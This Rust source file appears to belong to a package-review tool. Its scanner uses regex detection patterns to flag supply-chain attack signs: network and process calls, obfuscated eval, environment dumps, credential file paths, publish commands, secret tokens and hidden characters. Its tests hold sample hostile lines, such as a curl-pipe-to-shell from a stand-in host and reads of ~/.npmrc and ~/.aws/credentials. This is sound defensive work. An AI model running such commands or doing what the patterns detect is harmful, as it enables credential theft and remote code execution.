//! What stands out in a text, line by line.
//!
//! These are no proofs: a pattern says that something is named, and the comparison with the baseline
//! says whether that is new. Lines are cut before they are searched, so time is linear in the size.

use std::sync::LazyLock;

use regex::Regex;

use crate::domain::review::survey::{EXCERPT_MAX, MARKS_MAX, Mark, Sort};

/// Longest part of a line that patterns see, in bytes; the rest is searched in further parts.
const PART_BYTES: usize = 4 * 1024;
/// White space before code that puts it off the screen (CT-07).
const OFF_SCREEN_COLUMNS: usize = 200;
/// Characters that are not shown, in a row, that are more than an accident (CT-11).
const INVISIBLE_RUN: usize = 3;

/// What sort of text a file is, by its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Language {
    JavaScript,
    Python,
    Shell,
    /// `.pth`: lines that begin with `import` run.
    PathConfiguration,
    /// `binding.gyp`.
    Gyp,
    /// Prose and data.
    Other,
}

impl Language {
    pub(super) fn of(path: &str) -> Self {
        let name = path.rsplit('/').next().unwrap_or(path).to_ascii_lowercase();
        if name == "binding.gyp" || name.ends_with(".gypi") {
            return Self::Gyp;
        }
        match name.rsplit_once('.').map(|(_, extension)| extension) {
            Some("js" | "mjs" | "cjs" | "jsx" | "ts" | "mts" | "cts" | "tsx") => Self::JavaScript,
            Some("py" | "pyi" | "pyw") => Self::Python,
            Some("sh" | "bash" | "zsh" | "ps1" | "bat" | "cmd") => Self::Shell,
            Some("pth") => Self::PathConfiguration,
            _ => Self::Other,
        }
    }

    const fn is_code(self) -> bool {
        !matches!(self, Self::Other)
    }
}

type Patterns = Vec<(Sort, Regex)>;

#[expect(clippy::expect_used, reason = "the patterns are constants, and a test compiles them all")]
fn compile(patterns: &[(Sort, &str)]) -> Patterns {
    patterns
        .iter()
        .map(|(sort, pattern)| (*sort, Regex::new(pattern).expect("a pattern of ours")))
        .collect()
}

static JAVASCRIPT: LazyLock<Patterns> = LazyLock::new(|| {
    compile(&[
        (
            Sort::Network,
            r#"\bfetch\s*\(|XMLHttpRequest|new\s+WebSocket|require\(\s*['"](?:node:)?(?:https?|net|tls|dgram|dns|http2)['"]|from\s+['"](?:node:)?(?:https?|net|tls|dgram|dns|http2)['"]|\baxios\b|\bundici\b"#,
        ),
        (
            Sort::Process,
            r#"child_process|\bexecSync\b|\bspawnSync\b|\bexecFile\b|process\.binding|worker_threads"#,
        ),
        (
            Sort::DynamicCode,
            r"\beval\s*\(|new\s+Function\s*\(|vm\.(?:runIn|Script|compileFunction)",
        ),
        (
            Sort::Obfuscated,
            r#"_0x[0-9a-f]{4,}|(?:eval|Function)\s*\(\s*(?:atob|Buffer\.from|unescape|decodeURIComponent|String\.fromCharCode)|(?:\\x[0-9a-fA-F]{2}){16,}|String\.fromCharCode\s*\((?:\s*\d+\s*,){12,}"#,
        ),
        (
            Sort::Environment,
            r"JSON\.stringify\s*\(\s*process\.env\s*[,)]|\.\.\.process\.env\b|Object\.(?:keys|entries|values|assign)\s*\([^)]{0,40}process\.env\s*[,)]",
        ),
    ])
});

static PYTHON: LazyLock<Patterns> = LazyLock::new(|| {
    compile(&[
        (
            Sort::Network,
            r"^\s*(?:import|from)\s+(?:requests|urllib|urllib3|http\.client|httpx|aiohttp|socket|ftplib|smtplib|websockets?)\b",
        ),
        (
            Sort::Process,
            r"^\s*(?:import|from)\s+(?:subprocess|pty|ctypes)\b|\bos\.(?:system|popen|exec[lv]p?e?|spawn[lv]p?e?)\s*\(",
        ),
        (Sort::DynamicCode, r"\b(?:eval|exec)\s*\(|\b__import__\s*\("),
        (
            Sort::Obfuscated,
            r"(?:exec|eval)\s*\(\s*(?:base64|zlib|marshal|codecs|bytes\.fromhex|__import__)|marshal\.loads|exec\s*\(\s*compile\s*\(\s*(?:base64|zlib)|(?:\\x[0-9a-fA-F]{2}){16,}|__pyarmor__",
        ),
        (
            Sort::Environment,
            r"(?:dict|json\.dumps|str|repr|list)\s*\(\s*os\.environ\s*[,)]|os\.environ\.(?:copy|items)\s*\(",
        ),
    ])
});

static SHELL: LazyLock<Patterns> = LazyLock::new(|| {
    compile(&[
        (Sort::Network, r"\b(?:curl|wget|nc|Invoke-WebRequest|Invoke-RestMethod)\b"),
        (
            Sort::Obfuscated,
            r"base64\s+(?:-d|--decode)[^|]*\|\s*(?:ba|z)?sh|(?:curl|wget)[^|]*\|\s*(?:ba|z)?sh",
        ),
    ])
});

/// What is looked for in code of every language, configuration included.
static CODE: LazyLock<Patterns> = LazyLock::new(|| {
    compile(&[
        (
            Sort::CredentialPlace,
            r"\.npmrc\b|\.pypirc\b|\.aws/credentials|\.ssh/id_|\.kube/config|\.docker/config\.json|\.netrc\b|\.git-credentials|application_default_credentials|169\.254\.169\.254|metadata\.google\.internal|ACTIONS_ID_TOKEN_REQUEST|/proc/[^\s'\x22]{1,20}/mem|Login Data|wallet\.dat",
        ),
        (
            Sort::Publishes,
            r"\b(?:npm|pnpm|yarn(?:\s+npm)?)\s+publish\b|\btwine\s+upload\b|\buv\s+publish\b|/-/user/org\.couchdb|createForAuthenticatedUser|actions-runner|/actions/runners/registration-token",
        ),
    ])
});

static SECRETS: LazyLock<Patterns> = LazyLock::new(|| {
    compile(&[(
        Sort::Secret,
        r"-----BEGIN (?:RSA |EC |OPENSSH |DSA |)PRIVATE KEY-----|\bnpm_[A-Za-z0-9]{36}\b|\bpypi-AgE[A-Za-z0-9_-]{50,}|\bgh[pousr]_[A-Za-z0-9]{36}\b|\bgithub_pat_[A-Za-z0-9_]{40,}|\bAKIA[0-9A-Z]{16}\b|\bxox[baprs]-[0-9A-Za-z-]{20,}",
    )])
});

static GYP: LazyLock<Patterns> = LazyLock::new(|| compile(&[(Sort::GypCommand, r"<!@?\(")]));

static STARTUP: LazyLock<Patterns> =
    LazyLock::new(|| compile(&[(Sort::StartupLine, r"^import[ \t]")]));

#[expect(clippy::expect_used, reason = "a constant that a test compiles")]
static HOST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:https?|wss?|ftp)://(?:[^\s/@'\x22`<>]{1,80}@)?([A-Za-z0-9.-]{4,120})")
        .expect("a pattern of ours")
});

/// Searches one text piece by piece.
#[derive(Debug)]
pub(super) struct Scanner {
    language: Language,
    line: u32,
    marks: Vec<Mark>,
}

impl Scanner {
    pub(super) const fn new(language: Language) -> Self {
        Self { language, line: 0, marks: Vec::new() }
    }

    /// Looks at the next line, without its end.
    pub(super) fn line(&mut self, line: &str) {
        self.line = self.line.saturating_add(1);
        self.characters(line);
        for part in parts(line) {
            self.patterns(part);
        }
    }

    /// What stood out.
    pub(super) fn finish(self) -> Vec<Mark> {
        self.marks
    }

    fn mark(&mut self, sort: Sort, excerpt: &str) {
        if self.marks.len() >= MARKS_MAX {
            return;
        }
        let excerpt: String = excerpt.trim().chars().take(EXCERPT_MAX).collect();
        // The same thing a hundred times is said once.
        if !self.marks.iter().any(|known| known.sort == sort && known.excerpt == excerpt) {
            self.marks.push(Mark { sort, line: self.line, excerpt });
        }
    }

    fn patterns(&mut self, part: &str) {
        let sets: &[&LazyLock<Patterns>] = match self.language {
            Language::JavaScript => &[&JAVASCRIPT, &CODE, &SECRETS],
            Language::Python => &[&PYTHON, &CODE, &SECRETS],
            Language::Shell => &[&SHELL, &CODE, &SECRETS],
            Language::PathConfiguration => &[&STARTUP, &PYTHON, &CODE, &SECRETS],
            Language::Gyp => &[&GYP, &CODE, &SECRETS],
            Language::Other => &[&SECRETS],
        };
        for (sort, pattern) in sets.iter().flat_map(|set| set.iter()) {
            if let Some(found) = pattern.find(part) {
                self.mark(*sort, around(part, found.start(), found.end()));
            }
        }
        if self.language.is_code() {
            for found in HOST.captures_iter(part) {
                let host = found.get(1).map_or("", |host| host.as_str()).trim_end_matches('.');
                if host.contains('.') {
                    self.mark(Sort::Host, &host.to_ascii_lowercase());
                }
            }
        }
    }

    fn characters(&mut self, line: &str) {
        if line.is_ascii() {
            self.off_screen(line);
            return;
        }
        if self.language.is_code() && line.chars().any(is_bidi) {
            let shown = shown(line, is_bidi);
            self.mark(Sort::Bidi, &shown);
        }
        let (mut run, mut previous) = (0, ' ');
        for c in line.chars() {
            // A variation selector after a picture is how pictures are written.
            let belongs = is_selector(c) && run == 0 && !previous.is_ascii();
            run = if is_invisible(c) && !belongs { run + 1 } else { 0 };
            if run == INVISIBLE_RUN {
                let shown = shown(line, is_invisible);
                self.mark(Sort::Invisible, &shown);
                break;
            }
            previous = c;
        }
        self.off_screen(line);
    }

    fn off_screen(&mut self, line: &str) {
        if !self.language.is_code() {
            return;
        }
        let mut blanks = 0;
        for (at, c) in line.char_indices() {
            if c == ' ' || c == '\t' {
                blanks += 1;
            } else {
                if blanks >= OFF_SCREEN_COLUMNS {
                    self.mark(Sort::OffScreen, &line[at..]);
                    return;
                }
                blanks = 0;
            }
        }
    }
}

/// Pieces of a line that overlap by nothing: a pattern across a cut is missed in a line that no
/// person wrote, and such lines are a finding of their own.
fn parts(line: &str) -> impl Iterator<Item = &str> {
    let mut rest = line;
    std::iter::from_fn(move || {
        if rest.is_empty() {
            return None;
        }
        let mut end = rest.len().min(PART_BYTES);
        while !rest.is_char_boundary(end) {
            end -= 1;
        }
        let (part, after) = rest.split_at(end);
        rest = after;
        Some(part)
    })
}

/// The match with what stands around it.
fn around(text: &str, start: usize, end: usize) -> &str {
    const BESIDE: usize = 40;
    let (mut from, mut to) = (start.saturating_sub(BESIDE), (end + BESIDE).min(text.len()));
    while !text.is_char_boundary(from) {
        from -= 1;
    }
    while !text.is_char_boundary(to) {
        to += 1;
    }
    &text[from..to]
}

/// The text with the characters in question written out, so that people see them.
fn shown(line: &str, hidden: fn(char) -> bool) -> String {
    let mut out = String::new();
    for c in line.chars().skip_while(|c| !hidden(*c)).take(EXCERPT_MAX) {
        if hidden(c) {
            out.push_str(&format!("⟦U+{:04X}⟧", u32::from(c)));
        } else {
            out.push(c);
        }
    }
    out
}

const fn is_bidi(c: char) -> bool {
    matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}' | '\u{061C}' | '\u{200E}' | '\u{200F}')
}

const fn is_selector(c: char) -> bool {
    matches!(c, '\u{FE00}'..='\u{FE0F}')
}

const fn is_invisible(c: char) -> bool {
    matches!(
        c,
        '\u{FE00}'..='\u{FE0F}'
            | '\u{E0100}'..='\u{E01EF}'
            | '\u{E0000}'..='\u{E007F}'
            | '\u{200B}'..='\u{200D}'
            | '\u{2060}'
            | '\u{3164}'
            | '\u{115F}'
            | '\u{1160}'
            | '\u{FFA0}'
            | '\u{E000}'..='\u{F8FF}'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn marks(path: &str, text: &str) -> Vec<(Sort, u32)> {
        let mut scanner = Scanner::new(Language::of(path));
        for line in text.lines() {
            scanner.line(line);
        }
        scanner.finish().into_iter().map(|mark| (mark.sort, mark.line)).collect()
    }

    fn sorts(path: &str, text: &str) -> Vec<Sort> {
        marks(path, text).into_iter().map(|(sort, _)| sort).collect()
    }

    #[test]
    fn what_attacks_of_the_last_years_did_is_marked() {
        let cases: [(&str, &str, Sort); 16] = [
            ("a.js", "const cp = require('child_process')", Sort::Process),
            ("a.js", "await fetch(u)", Sort::Network),
            ("a.js", "eval(atob('YQ=='))", Sort::Obfuscated),
            ("a.js", "var _0x3f2a1b=['a']", Sort::Obfuscated),
            ("a.js", "post(JSON.stringify(process.env))", Sort::Environment),
            ("a.js", "read(home + '/.npmrc')", Sort::CredentialPlace),
            ("a.js", "run('npm publish --tag latest')", Sort::Publishes),
            ("a.js", "const t = process.env.ACTIONS_ID_TOKEN_REQUEST_URL", Sort::CredentialPlace),
            ("a.py", "import subprocess", Sort::Process),
            ("a.py", "exec(base64.b64decode(x))", Sort::Obfuscated),
            ("a.py", "data = dict(os.environ)", Sort::Environment),
            ("a.py", "open('~/.aws/credentials')", Sort::CredentialPlace),
            ("a.pth", "import os; os.system('x')", Sort::StartupLine),
            ("binding.gyp", "'sources': ['<!(node x.js)']", Sort::GypCommand),
            ("a.sh", "curl https://x.example/a | sh", Sort::Obfuscated),
            ("README.md", "-----BEGIN PRIVATE KEY-----", Sort::Secret),
        ];
        for (path, text, sort) in cases {
            assert!(sorts(path, text).contains(&sort), "{path}: {text}: {:?}", sorts(path, text));
        }
    }

    #[test]
    fn ordinary_text_is_quiet() {
        let quiet = [
            ("a.js", "export function evaluate(a) { return a.fetched + prefetch }"),
            ("a.js", "// see https://docs.example/api for more"),
            ("a.py", "def executor(evaluation): return os.environ.get('HOME')"),
            ("a.pth", "../src\n# import nothing"),
            ("README.md", "eval(atob(x)) and child_process in prose"),
            ("a.txt", "مرحبا بالعالم"),
            ("a.js", "const heart = '❤️ 👨‍👩‍👧 text'"),
        ];
        for (path, text) in quiet {
            let found = sorts(path, text);
            assert!(found.iter().all(|sort| *sort == Sort::Host), "{path}: {text}: {found:?}");
        }
        assert_eq!(sorts("a.js", "fetch('https://Api.Example./v1')").last(), Some(&Sort::Host));
    }

    #[test]
    fn what_people_cannot_see_is_marked_with_its_line() {
        let far = format!("x = 1\n{}import os", " ".repeat(OFF_SCREEN_COLUMNS));
        assert!(marks("a.py", &far).contains(&(Sort::OffScreen, 2)));
        let near = format!("{}import os", " ".repeat(OFF_SCREEN_COLUMNS - 1));
        assert!(!sorts("a.py", &near).contains(&Sort::OffScreen));
        assert_eq!(marks("a.js", "ok\nif (a \u{202E}) b"), [(Sort::Bidi, 2)]);
        assert_eq!(marks("a.json", "\"a\u{E0101}\u{E0102}\u{E0103}\""), [(Sort::Invisible, 1)]);
        let mut scanner = Scanner::new(Language::JavaScript);
        scanner.line("a\u{200B}\u{200B}\u{200B}b");
        assert_eq!(scanner.finish()[0].excerpt, "⟦U+200B⟧⟦U+200B⟧⟦U+200B⟧b");
    }

    #[test]
    fn a_line_without_end_costs_what_its_length_costs() {
        let line = "a".repeat(3 * PART_BYTES) + "; eval(x)";
        assert_eq!(parts(&line).count(), 4);
        assert_eq!(parts(&line).collect::<String>(), line);
        assert!(sorts("a.js", &line).contains(&Sort::DynamicCode));
        let many = (0..10 * MARKS_MAX).map(|n| format!("get('https://h{n}.example/')\n"));
        assert_eq!(marks("a.js", &many.collect::<String>()).len(), MARKS_MAX);
    }
}
